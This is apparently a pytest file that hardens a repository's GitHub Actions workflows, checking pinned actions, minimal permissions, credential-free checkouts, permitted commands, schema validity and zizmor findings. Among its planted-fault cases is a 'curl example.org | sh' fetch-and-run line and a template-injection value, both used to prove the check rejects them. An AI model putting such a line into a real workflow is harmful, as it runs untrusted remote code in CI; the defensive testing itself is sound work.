"""The workflows: their form, what they may do, and that what they run is there."""

import re
import shlex
import shutil
import subprocess
import sys
from importlib import import_module
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
GITHUB = ROOT / ".github"
WORKFLOWS = sorted((GITHUB / "workflows").glob("*.yml"))
MAKEFILE = (ROOT / "Makefile").read_text(encoding="utf-8")
TARGETS = set(re.findall(r"^([a-z ]+):", MAKEFILE, re.MULTILINE))
TARGETS = {target for targets in TARGETS for target in targets.split()}
# Whose actions may run here: GitHub's own.
OWNERS = {"actions"}
# What a job may do with the repository beyond reading it.
RIGHTS = {
    ("publish", "build"): {"contents": "read", "pages": "read"},
    ("publish", "release"): {"contents": "write"},
    ("publish", "pages"): {"pages": "write", "id-token": "write"},
}


def read(path: Path) -> dict:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def problems(path: Path) -> list[str]:
    """Say what is wrong with a workflow."""
    text, workflow, found = path.read_text(encoding="utf-8"), read(path), []
    if workflow["permissions"] != {}:
        found.append("expected no permissions for all jobs together")
    if not {"group", "cancel-in-progress"} <= workflow["concurrency"].keys():
        found.append("expected a concurrency group")
    pinned = re.findall(r"^ *(?:- )?uses: (\S+)/\S+@[0-9a-f]{40} # v\d+\.\d+\.\d+$", text, re.M)
    if len(pinned) != len(re.findall(r"uses:", text)):
        found.append("expected each action pinned by a hash of 40 digits, with its version")
    found += [f"unexpected owner of an action: {owner}" for owner in set(pinned) - OWNERS]
    for key, job in workflow["jobs"].items():
        rights = RIGHTS.get((path.stem, key), {"contents": "read"})
        if job.get("permissions") != rights:
            found.append(f"{key}: expected the permissions {rights}")
        shared = workflow.get("env", {}) | job.get("env", {})
        if "GH_TOKEN" in shared:
            found.append(f"{key}: expected the token in those steps only that need it")
        if not job.get("timeout-minutes", 1000) <= 120:
            found.append(f"{key}: expected a limit of at most two hours")
        for step in job["steps"]:
            checkout = step.get("uses", "").startswith("actions/checkout")
            if checkout and step.get("with", {}).get("persist-credentials") is not False:
                found.append(f"{key}: expected a checkout that keeps no credentials")
            known = set(shared | step.get("env", {}))
            if "run" in step and (wrong := wrong_command(step["run"], known)):
                found.append(f"{key}: {wrong}")
    return found


def wrong_command(command: str, known: set[str]) -> str:
    """Say what is wrong with a step's command: it is `make TARGET ...` or `python3 -m tools.x ...`.

    `known` are the variables that its workflow, its job and itself set.
    """
    if unknown := set(re.findall(r"\$([A-Z_]+)", command)) - known:
        return f"not in the environment: {sorted(unknown)}"
    if match := re.fullmatch(r'make ((?:[a-z]+ ?)+|"\$[A-Z]+")', command):
        surplus = set() if "$" in command else set(match[1].split()) - TARGETS
        return f"no such target: {sorted(surplus)}" if surplus else ""
    if match := re.fullmatch(r'python3 -m tools\.(\w+)((?: (?:[a-z]+|"\$[A-Z_]+"))*)', command):
        if not (ROOT / "tools" / f"{match[1]}.py").is_file():
            return f"no such tool: {match[1]}"
        try:
            import_module(f"tools.{match[1]}").parser().parse_args(shlex.split(match[2]))
        except SystemExit:
            return f"tools.{match[1]} does not take{match[2]}"
        return ""
    return f"expected one command of a known form, got {command!r}"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)
def test_workflow_is_pinned_limited_and_runs_what_is_there(path):
    assert problems(path) == []


def test_there_are_three_workflows():
    assert [path.stem for path in WORKFLOWS] == ["checks", "publish", "weekly"]
    assert {"test", "quick", "zip", "pdf", "wheel", "oldest", "newest"} <= TARGETS


@pytest.mark.parametrize(
    ("before", "after", "message"),
    [
        ("permissions: {}", "permissions: write-all", "no permissions"),
        ("contents: write", "contents: read", "release: expected the permissions"),
        (" # v6.2.0", "", "pinned by a hash"),
        ("@de0fac2e4500dabe0009e67214ff5f5447ce83dd", "@v6", "pinned by a hash"),
        ("actions/deploy-pages", "someone/deploy-pages", "owner of an action: someone"),
        ("persist-credentials: false", "persist-credentials: true", "keeps no credentials"),
        ("timeout-minutes: 60", "timeout-minutes: 600", "two hours"),
        ("make zip pdf", "make zipp pdf", r"no such target: \['zipp'\]"),
        ("tools.release publish", "tools.releases publish", "no such tool: releases"),
        ("tools.release notebooks", "tools.release notebook", "release does not take notebook"),
        ('publish "$BOOK_RELEASE"', "publish", "release does not take publish"),
        ('"$BOOK_RELEASE"', '"$RELEASE"', r"not in the environment: \['RELEASE'\]"),
        ("env:\n  BOOK", "env:\n  GH_TOKEN: x\n  BOOK", "build: expected the token in those steps"),
        ('publish "$BOOK_RELEASE"', "publish ${{ github.ref_name }}", "known form"),
        ("make zip pdf", "curl example.org | sh; make zip pdf", "known form"),
    ],
)
def test_the_check_sees_what_is_planted(tmp_path, before, after, message):
    text = (GITHUB / "workflows" / "publish.yml").read_text(encoding="utf-8")
    assert before in text
    planted = tmp_path / "publish.yml"
    planted.write_text(text.replace(before, after), encoding="utf-8")
    assert re.search(message, "\n".join(problems(planted)))


@pytest.mark.parametrize(
    ("ref", "jobs"),
    [
        ("refs/heads/main", ["build", "release", "pages"]),
        ("refs/tags/v1.0", ["build", "release"]),
        ("refs/tags/book", ["build"]),  # the rolling release's own tag: an old commit
        ("refs/heads/next", ["build"]),
    ],
)
def test_what_a_run_for_a_branch_or_tag_publishes(ref, jobs):
    def runs(condition: str) -> bool:
        condition = condition.replace("||", "or").replace("github.ref", "ref")
        return eval(condition, {"startsWith": str.startswith, "ref": ref})

    publish = read(GITHUB / "workflows" / "publish.yml")
    assert [key for key, job in publish["jobs"].items() if runs(job.get("if", "True"))] == jobs
    # A run that waits is replaced by a newer one of its group.
    assert publish["concurrency"]["group"] == "publish-${{ github.ref }}"


def test_the_targets_of_the_matrix_are_there():
    versions = read(GITHUB / "workflows" / "weekly.yml")["jobs"]["versions"]
    which = {entry["which"] for entry in versions["strategy"]["matrix"]["include"]}
    assert which == {"oldest", "newest"} <= TARGETS
    assert versions["steps"][-1]["env"] == {"WHICH": "${{ matrix.which }}"}


def test_every_tool_that_make_calls_is_there():
    called = set(re.findall(r"-m tools\.(\w+)", MAKEFILE))
    assert len(called) > 10
    places = {name: [f"{name}.py", f"{name}/__main__.py"] for name in called}
    for name, files in places.items():
        assert any((ROOT / "tools" / file).is_file() for file in files), name


@pytest.mark.parametrize("tool", ["links", "bounds"])
def test_a_tool_that_make_calls_without_the_environment_needs_python_alone(tool):
    assert f"@$(PYTHON) -m tools.{tool}" in MAKEFILE
    command = [sys.executable, "-S", "-m", f"tools.{tool}", "--help"]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr


@pytest.mark.skipif(shutil.which("make") is None, reason="no make")
@pytest.mark.parametrize(
    ("version", "accepted"), [("3.10", False), ("3.11", True), ("3.14", True), ("3.15", False)]
)
def test_make_asks_for_a_python_that_the_packages_are_built_for(tmp_path, version, accepted):
    python = tmp_path / "python"
    python.write_text(
        f"#!{sys.executable}\nimport sys\n"
        f"sys.version, sys.version_info = '{version}.1 (x)', ({version.replace('.', ', ')}, 1)\n"
        "if sys.argv[1] == '-c':\n    exec(sys.argv[2])\n"
    )
    python.chmod(0o755)
    command = ["make", "visit", f"PYTHON={python}"]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True)
    assert (done.returncode == 0) is accepted, done.stderr
    assert (f"expected Python 3.11 to 3.14, got {version}.1\n" in done.stderr) is not accepted


def test_a_fork_has_nothing_to_change():
    for path in [*WORKFLOWS, GITHUB / "dependabot.yml"]:
        text = path.read_text(encoding="utf-8")
        assert re.findall(r"github\.com/|\.github\.io|github\.repository_owner", text) == []
    publish = read(GITHUB / "workflows" / "publish.yml")["jobs"]["build"]
    assert publish["env"]["BOOK_REPOSITORY"] == "${{ github.repository }}"
    bases = [step["env"]["BOOK_BASE_URL"] for step in publish["steps"] if "env" in step]
    assert bases == ["${{ steps.pages.outputs.base_url }}"]


@pytest.mark.parametrize(
    ("schema", "paths"),
    [("github-workflows", WORKFLOWS), ("dependabot", [GITHUB / "dependabot.yml"])],
)
def test_the_schema_holds(schema, paths):
    command = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", f"vendor.{schema}"]
    done = subprocess.run([*command, *paths], capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr


def test_zizmor_finds_nothing(tmp_path):
    zizmor = str(Path(sys.executable).with_name("zizmor"))
    command = [zizmor, "--offline", "--no-progress", "--persona", "pedantic"]
    done = subprocess.run([*command, GITHUB], capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr

    folder = tmp_path / ".github" / "workflows"
    folder.mkdir(parents=True)
    text = (GITHUB / "workflows" / "publish.yml").read_text(encoding="utf-8")
    planted = text.replace('publish "$BOOK_RELEASE"', "publish ${{ github.ref_name }}")
    (folder / "publish.yml").write_text(planted, encoding="utf-8")
    done = subprocess.run([*command, tmp_path / ".github"], capture_output=True, text=True)
    assert done.returncode != 0
    assert "template-injection" in done.stdout


def test_dependabot_keeps_what_stays():
    pip, actions = read(GITHUB / "dependabot.yml")["updates"]
    assert (pip["package-ecosystem"], actions["package-ecosystem"]) == ("pip", "github-actions")
    ignored = {rule["dependency-name"]: rule.get("versions") for rule in pip["ignore"]}
    assert ignored["jupyter-book"] == [">=2"]
    assert ignored["sphinx"] == [">=8"]
    assert "torch" in ignored
    assert ignored["torch"] is None
    locked = (ROOT / "requirements.txt").read_text(encoding="utf-8").lower()
    for name, versions in ignored.items():
        version = re.search(rf"^{re.escape(name)}==([\d.]+)", locked, re.MULTILINE)[1]
        for limit in versions or ():
            bound = [int(part) for part in limit.removeprefix(">=").split(".")]
            assert [int(part) for part in version.split(".")[: len(bound)]] < bound, name


@pytest.mark.parametrize("target", ["test", "quick"])
def test_the_checks_without_make_are_those_of_make(target):
    recipe = re.search(rf"^{target}:.*\n((?:\t.*\n)+)", MAKEFILE, re.MULTILINE)[1]
    recipe = recipe.replace("\\\n", " ").replace("$(PY)", ".venv/bin/python").replace("\t@", "\t")
    commands = [" ".join(line.split()) for line in recipe.splitlines()]
    table = (ROOT / "CONTRIBUTING.md").read_text(encoding="utf-8")
    [row] = re.findall(rf"^\| `make {target}` \| (.*) \|$", table, re.MULTILINE)
    assert row == ", ".join(f"`{command}`" for command in commands)
